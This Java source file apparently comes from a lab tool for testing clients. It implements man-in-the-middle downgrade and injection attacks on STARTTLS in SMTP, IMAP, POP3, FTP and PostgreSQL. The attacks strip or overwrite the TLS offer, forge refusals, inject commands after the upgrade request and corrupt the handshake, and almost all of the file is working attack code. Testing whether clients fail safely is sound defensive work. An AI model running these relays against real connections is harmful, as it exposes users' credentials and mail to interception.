package io.plainsight.app.lab;

import io.plainsight.app.lab.Relay.Change;
import io.plainsight.app.lab.Relay.Framing;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.util.Locale;
import java.util.function.Function;
import java.util.function.UnaryOperator;

/** Attacks on the upgrade to TLS inside SMTP, IMAP, POP3, FTP and PostgreSQL. */
final class StarttlsAttacks {
    /** What a client sends to ask a PostgreSQL server for TLS, with its length. */
    private static final int SSL_REQUEST = 80877103;

    private static final int SSL_REQUEST_LENGTH = 8;
    private static final byte HANDSHAKE = 0x16;
    private static final byte[] NOTHING = {};

    private StarttlsAttacks() {}

    /** Takes the offer out of what the server can do. */
    static Attack removeOffer() {
        return ofServer(line -> isOfferAlone(line) ? "" : line.replace(" STARTTLS", ""));
    }

    /** Overwrites the offer in place, as some firewalls do. */
    static Attack overwriteOffer() {
        return ofServer(line -> line.replace("STARTTLS", "XXXXXXXA")
                .replace("STLS", "XXXX")
                .replace("AUTH TLS", "XXXXXXXX")
                .replace("AUTH SSL", "XXXXXXXX"));
    }

    /** Overwrites the client's request. */
    static Attack overwriteRequest() {
        return ofClient(line -> isRequest(line)
                ? line.replace("STARTTLS", "XXXXXXXX").replace("STLS", "XXXX").replaceFirst("AUTH ...", "XXXXXXXX")
                : line);
    }

    /** Answers the client's request itself, in the negative; the server hears nothing of it. */
    static Attack refuse() {
        return (client, upstream, number) -> {
            OutputStream toClient = client.getOutputStream();
            lines(client, upstream, answering(toClient, StarttlsAttacks::refusal), Change.NOTHING);
        };
    }

    /** Sends a command of its own behind the client's request. */
    static Attack injectCommand() {
        return ofClient(line -> isRequest(line) ? line + tag(line) + "NOOP\r\n" : line);
    }

    /** Sends an answer of its own behind the server's consent. */
    static Attack injectAnswer() {
        return (client, upstream, number) -> {
            boolean[] requested = new boolean[1];
            lines(
                    client,
                    upstream,
                    text(line -> {
                        requested[0] |= isRequest(line);
                        return line;
                    }),
                    text(line -> {
                        boolean consent = requested[0];
                        requested[0] = false;
                        return consent ? line + line.replaceFirst(" .*", " injected") : line;
                    }));
        };
    }

    /** Lets the upgrade be agreed on, then answers the client's hello with bytes that are no TLS. */
    static Attack garbage() {
        return (client, upstream, number) -> {
            boolean[] requested = new boolean[1];
            try (Socket server = upstream.open()) {
                Relay.join(
                        client,
                        server,
                        Framing.LINES,
                        text(line -> {
                            requested[0] |= isRequest(line);
                            return line;
                        }),
                        Framing.RAW,
                        // what begins like a record, once asked for, is the server's hello
                        unit -> requested[0] && unit.length > 0 && unit[0] == HANDSHAKE ? new byte[64] : unit);
            }
        };
    }

    /** Answers PostgreSQL's request for TLS by {@code N} and lets the rest pass. */
    static Attack refusePostgres() {
        return (client, upstream, number) -> {
            byte[] first = client.getInputStream().readNBytes(SSL_REQUEST_LENGTH);
            boolean request =
                    first.length == SSL_REQUEST_LENGTH && ByteBuffer.wrap(first).getInt(4) == SSL_REQUEST;
            try (Socket server = upstream.open()) {
                if (request) {
                    client.getOutputStream().write('N');
                } else {
                    server.getOutputStream().write(first);
                }
                Relay.join(client, server, Framing.RAW, Change.NOTHING, Framing.RAW, Change.NOTHING);
            }
        };
    }

    private static boolean isOfferAlone(String line) {
        return line.strip().matches("(250[- ])?(STARTTLS|STLS|AUTH (TLS|SSL))");
    }

    private static boolean isRequest(String line) {
        return line.strip().toUpperCase(Locale.ROOT).matches("(\\S+ )?STARTTLS|STLS|AUTH (TLS|SSL)");
    }

    private static boolean isFtp(String request) {
        return request.startsWith("AUTH ");
    }

    /** IMAP's tag of a command, with its blank; empty elsewhere. */
    private static String tag(String line) {
        return line.contains(" ") && !isFtp(line) ? "Z" + line.substring(0, line.indexOf(' ') + 1) : "";
    }

    private static String refusal(String line) {
        if (!isRequest(line)) {
            return null;
        }
        if (isFtp(line)) {
            return "534 TLS is not available\r\n";
        }
        if (line.contains(" ")) {
            return line.substring(0, line.indexOf(' ')) + " BAD TLS is not available\r\n";
        }
        return line.strip().equalsIgnoreCase("STLS") ? "-ERR TLS is not available\r\n" : "454 TLS is not available\r\n";
    }

    private static Attack ofServer(UnaryOperator<String> rewrite) {
        return (client, upstream, number) -> lines(client, upstream, Change.NOTHING, text(rewrite));
    }

    private static Attack ofClient(UnaryOperator<String> rewrite) {
        return (client, upstream, number) -> lines(client, upstream, text(rewrite), Change.NOTHING);
    }

    /** @param answer to a line of the client's; null to let it pass */
    private static Change answering(OutputStream toClient, Function<String, String> answer) {
        return line -> {
            String said = answer.apply(new String(line, StandardCharsets.ISO_8859_1));
            if (said == null) {
                return line;
            }
            toClient.write(said.getBytes(StandardCharsets.ISO_8859_1));
            return NOTHING;
        };
    }

    private static Change text(UnaryOperator<String> rewrite) {
        return line ->
                rewrite.apply(new String(line, StandardCharsets.ISO_8859_1)).getBytes(StandardCharsets.ISO_8859_1);
    }

    private static void lines(Socket client, Attack.Upstream upstream, Change ofClient, Change ofServer)
            throws IOException {
        try (Socket server = upstream.open()) {
            Relay.join(client, server, Framing.LINES, ofClient, Framing.LINES, ofServer);
        }
    }
}
